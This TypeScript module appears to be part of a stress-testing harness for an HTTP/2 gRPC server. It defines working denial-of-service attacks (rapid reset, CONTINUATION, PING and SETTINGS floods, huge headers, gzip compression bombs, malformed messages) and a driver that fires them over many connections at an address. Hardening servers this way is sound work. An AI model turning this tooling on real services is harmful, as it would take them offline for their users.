// What a hostile client sends, on a connection that has begun as it should.
import { gzipSync } from "node:zlib";
import {
  CALL_HEADERS,
  Calls,
  FLAG,
  frame,
  headerBlock,
  MESSAGE,
  RawConnection,
  settings,
  TYPE,
  uint32,
} from "./frames.ts";
import { pause } from "./load.ts";

/** Gives the next bytes to send. It is made anew for each connection. */
export type Attack = () => () => Buffer;

const MANY = 500;
const MIB = 1024 * 1024;

const headers = (stream: number, more: Readonly<Record<string, string>> = {}, flags: number = FLAG.END_HEADERS) =>
  frame(TYPE.HEADERS, flags, stream, headerBlock({ ...CALL_HEADERS, ...more }));

/** The same bytes on and on. */
const flood = (bytes: Buffer): Attack => {
  const all = Buffer.concat(Array(MANY).fill(bytes));
  return () => () => all;
};

/** Something first, and then the same bytes on and on. */
const after = (first: Buffer, bytes: Buffer, count = MANY): Attack => {
  const all = Buffer.concat(Array(count).fill(bytes));
  return () => {
    let begun = false;
    return () => {
      if (begun) return all;
      begun = true;
      return Buffer.concat([first, all]);
    };
  };
};

/** A call on a new stream, on and on: so many at a time, as the server takes no more. */
const calls = (bytesOf: (stream: number) => Buffer, atOnce = 50): Attack => {
  return () => {
    let stream = -1;
    return () => {
      const all = Array.from({ length: atOnce }, () => {
        stream += 2;
        return bytesOf(stream);
      });
      return Buffer.concat(all);
    };
  };
};

/** A message whose head says how long it is, and whether it is compressed. */
const message = (body: Uint8Array, length = body.length, compressed = false) =>
  Buffer.concat([Buffer.from([Number(compressed)]), uint32(length), body]);

const callOf = (body: Uint8Array, more: Readonly<Record<string, string>> = {}) => {
  const call = new Calls({ ...CALL_HEADERS, ...more }, body);
  return (stream: number) => call.on(stream);
};

// A header block is larger than a frame may be: it goes on in frames of 16 KiB.
const hugeHeaders = (stream: number) => {
  const block = headerBlock({ ...CALL_HEADERS, "x-huge": "x".repeat(60_000), "x-more": "x".repeat(24_000) });
  const parts: Buffer[] = [];
  for (let at = 0; at < block.length; at += 16_384) {
    const last = at + 16_384 >= block.length;
    const flags = last ? FLAG.END_HEADERS : FLAG.NONE;
    parts.push(frame(at === 0 ? TYPE.HEADERS : TYPE.CONTINUATION, flags, stream, block.subarray(at, at + 16_384)));
  }
  return Buffer.concat(parts);
};

const manyHeaders = Object.fromEntries(Array.from({ length: 500 }, (_, n) => [`x-${n}`, "1"]));
const bomb = message(gzipSync(Buffer.alloc(64 * MIB)).subarray(0, 65_000), undefined, true);
const garbage = message(Buffer.from("ffffffffffffffffffff0a80808080808080808001", "hex"));
const invalidText = message(Buffer.from("0a04c328c328", "hex"));

/** Every way to be hostile, by name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "rapid reset": calls((stream) =>
    Buffer.concat([headers(stream), frame(TYPE.RST_STREAM, FLAG.NONE, stream, uint32(8))]),
  ),
  "PING flood": flood(frame(TYPE.PING, FLAG.NONE, 0, Buffer.alloc(8))),
  "SETTINGS flood": flood(settings({ 4: 65_535 })),
  "CONTINUATION flood": after(
    headers(1, {}, FLAG.NONE),
    frame(TYPE.CONTINUATION, FLAG.NONE, 1, headerBlock({ "x-y": "z".repeat(100) })),
  ),
  "empty CONTINUATION flood": after(headers(1, {}, FLAG.NONE), frame(TYPE.CONTINUATION, FLAG.NONE, 1)),
  "empty DATA flood": after(headers(1), frame(TYPE.DATA, FLAG.NONE, 1)),
  "WINDOW_UPDATE flood": flood(frame(TYPE.WINDOW_UPDATE, FLAG.NONE, 0, uint32(1))),
  "PRIORITY flood": flood(frame(TYPE.PRIORITY, FLAG.NONE, 3, Buffer.from([0, 0, 0, 1, 16]))),
  "DATA of one byte each": after(
    Buffer.concat([headers(1), frame(TYPE.DATA, FLAG.NONE, 1, message(Buffer.alloc(0), 200_000))]),
    frame(TYPE.DATA, FLAG.NONE, 1, Buffer.alloc(1)),
    2000,
  ),
  "frames of no type": flood(frame(77, 0xff, 0, Buffer.alloc(100))),
  "500 headers": calls((stream) => headers(stream, manyHeaders), 4),
  "headers of 84 kB": calls(hugeHeaders, 2),
  "calls that never end": calls((stream) => headers(stream)),
  "messages of 100 MB": calls((stream) =>
    Buffer.concat([
      headers(stream),
      frame(TYPE.DATA, FLAG.NONE, stream, message(Buffer.alloc(16_000), 100_000_000)),
      frame(TYPE.DATA, FLAG.NONE, stream, Buffer.alloc(16_000)),
    ]),
  ),
  "malformed messages": calls(callOf(garbage)),
  "text that is not UTF-8": calls(callOf(invalidText)),
  "two messages": calls(callOf(Buffer.concat([MESSAGE, MESSAGE]))),
  "compressed bombs": calls(callOf(bomb.subarray(0, 16_000), { "grpc-encoding": "gzip" }), 5),
  "a compressed bomb that is not announced": calls(callOf(bomb.subarray(0, 16_000)), 5),
  "odd timeouts and paths": calls((stream) =>
    headers(stream, { "grpc-timeout": stream % 4 === 1 ? "-1S" : "99999999H", ":path": `/${"%".repeat(stream % 50)}` }),
  ),
  junk: flood(Buffer.from("GET / HTTP/1.1\r\nHost: x\r\n\r\n")),
};

/** What became of an attack. */
export interface Outcome {
  sentMib: number;
  /** Connections that the server closed. */
  closed: number;
}

/** Attacks on some connections, each of which comes back when it is closed. */
export async function attack(
  address: string,
  act: Attack,
  connections: number,
  milliseconds: number,
): Promise<Outcome> {
  const outcome: Outcome = { sentMib: 0, closed: 0 };
  const until = performance.now() + milliseconds;
  const one = async () => {
    while (performance.now() < until) {
      const connection = new RawConnection(address).begin();
      let open = true;
      const closed = connection.closed.then(() => {
        open = false;
      });
      const next = act();
      while (open && performance.now() < until) {
        const bytes = next();
        outcome.sentMib += bytes.length / MIB;
        const drained = new Promise<void>((resolve) => connection.socket.write(bytes, () => resolve()));
        await Promise.race([drained, closed, pause(until - performance.now())]);
        // The answers are read, and this process has others to serve.
        await pause(1);
      }
      if (!open) outcome.closed++;
      connection.end();
      await closed;
    }
  };
  await Promise.all(Array.from({ length: connections }, one));
  return outcome;
}
